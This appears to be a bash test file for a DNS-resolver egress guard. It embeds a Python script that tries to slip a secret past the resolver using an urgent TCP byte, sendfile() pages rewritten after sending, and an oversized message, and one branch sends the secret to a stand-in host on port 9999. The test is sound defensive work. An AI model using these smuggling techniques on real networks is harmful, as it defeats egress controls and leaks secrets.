# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# What the resolver reads must be what was judged: no urgent byte that its kernel takes out of the
# stream, no pages that change after the hook, no message too long to be read.

other_bytes() {
	attack <<-'END'
	import os, socket, sys, time
	import job
	how = sys.argv[1]
	if how == "splice":
	    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	    sock.connect((job.RESOLVER, 53))
	    with open("question", "wb+") as pages:
	        size = pages.write(job.question("feed.example"))
	        pages.flush()
	        # No more than there is: 5.10 would wait for the rest and send nothing.
	        os.sendfile(sock.fileno(), pages.fileno(), 0, size)
	    raise SystemExit
	if how == "pages":
	    # Corked, so that the file is changed while its bytes wait to be sent.
	    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	    sock.connect(("203.0.113.66", 9999))
	    sock.setsockopt(socket.IPPROTO_UDP, 1, 1)
	    with open("bytes", "wb+", 0) as pages:
	        size = pages.write(job.SECRET)
	        os.sendfile(sock.fileno(), pages.fileno(), 0, size)
	        os.pwrite(pages.fileno(), b"changed", 0)
	    sock.setsockopt(socket.IPPROTO_UDP, 1, 0)
	    raise SystemExit
	sock = socket.create_connection((job.RESOLVER, 53), 5)
	message = job.framed(job.question("feed.example"))
	if how == "urgent":
	    sock.send(message[:1], socket.MSG_OOB)
	    time.sleep(0.1)
	    sock.sendall(message[1:] + job.SECRET)
	else:
	    sock.sendall(b"\xff\xff" + job.SECRET)
	time.sleep(0.2)
	END
}

# Does sendfile() send a file's pages as they are later? Debian's 6.1 copies them for a datagram, which
# then is one like any other.
pages_are_shared() {
	unguarded "${ATTACK[@]}" pages
	status_is 0
	seen "> $EVIL4.9999 .*(changed|$SECRET)" >"$CASE/pages" || fail "nothing was sent"
	grep -q changed "$CASE/pages"
}

test_bytes_that_the_resolver_reads_otherwise_are_refused() {
	local how
	other_bytes
	policy_feed
	for how in urgent splice too-long; do
		new_secret
		echo "# row: $how"
		[ $how != splice ] || pages_are_shared || continue
		guarded -- "${ATTACK[@]}" $how
		recorded Reason=dns-malformed EventResult=Failure
		nothing_arrived "$SECRET"
		not_asked feed.example
	done
}
